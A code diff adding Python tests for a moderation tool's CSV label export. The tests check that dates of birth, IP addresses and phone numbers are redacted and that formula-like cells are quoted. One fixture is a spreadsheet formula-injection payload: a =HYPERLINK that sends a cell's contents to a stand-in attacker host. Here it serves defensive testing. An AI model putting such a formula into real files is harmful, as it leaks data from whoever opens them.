@@ -108,3 +108,59 @@ async def test_verdicts_export_as_redacted_rows_in_the_trainers_format(
     examples, record = read_labeled_csv(out)
     assert [(e.text, e.label) for e in examples] == [(r["text"], int(r["label"])) for r in rows]
     assert record.positives == 1
+
+
+async def test_every_recognizer_redacts_and_a_text_not_read_to_the_end_is_left_out(
+    wiki: FakeMediaWiki, tmp_path: Path
+) -> None:
+    """Issue 20, item 2: a date of birth and an IP address went out as they were (only the
+    fingerprint kinds were redacted), and so did a phone number after 1,200 decoy digits
+    (the phone recognizer's budget ran out). Item 3: text opening with ``=``, ``+``, ``-``
+    or ``@`` went out as a spreadsheet formula."""
+    texts = {
+        1: "you idiot, born 12 May 1990, everyone knows",
+        2: "you idiot, my IP is 81.2.69.160 and yours too",
+        3: "you idiot " + "1 " * 1200 + " call me at +1 415 867 5309",
+        4: '=HYPERLINK("https://evil.example/?"&A1,"click") you idiot',
+        5: "+1 415 867 5309 is where the idiot lives",
+        6: "-- you idiot",
+        7: "@admin this idiot again",
+    }
+    for n, text in texts.items():
+        wiki.add_edit(HOST, 900 + n, 1000 + n, "old line", f"old line\n{text}", title=f"T{n}")
+    alerts = {n: _alert(n, "harassment.targeted-insult") for n in texts}
+    state = tmp_path / "state"
+    store = AlertStore(state / "alerts.db")
+    store.add(a.to_dict() for a in alerts.values())
+    for a in alerts.values():
+        store.verdict(a.id, "true", None, "me")
+    store.close()
+
+    out = tmp_path / "labels.csv"
+    code, said = await _cli(
+        "alerts", "export-labels", "--state-dir", str(state), "--api-url",
+        wiki.api_url_template, "--out", str(out),
+    )  # fmt: skip
+    assert code == 0, said
+    written = out.read_text()
+    for private in ("1990", "12 May", "81.2.69.160", "867 5309", "5309"):
+        assert private not in written
+    by_id = {r["alert_id"]: r["text"] for r in csv.DictReader(out.open())}
+    assert alerts[3].id not in by_id  # not read to the end: left out, and counted
+    assert "left out: 1 (too many candidates to check for personal data)" in said
+    assert "6 row(s)" in said
+    assert by_id[alerts[1].id] == "you idiot, born **/**/199*, everyone knows"
+    assert by_id[alerts[2].id] == "you idiot, my IP is *.*.*.* and yours too"
+    assert by_id[alerts[4].id].startswith("'=HYPERLINK(")
+    assert by_id[alerts[5].id].startswith("'+")
+    assert by_id[alerts[6].id] == "'-- you idiot"
+    assert by_id[alerts[7].id] == "'@admin this idiot again"
+
+
+def test_a_cell_a_spreadsheet_would_run_gets_a_quote_before_it() -> None:
+    from streams.commands.labels import csv_cell
+
+    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_cell(formula) == "'" + formula
+    assert csv_cell("you idiot = 1") == "you idiot = 1"
+    assert csv_cell("'quoted") == "'quoted"
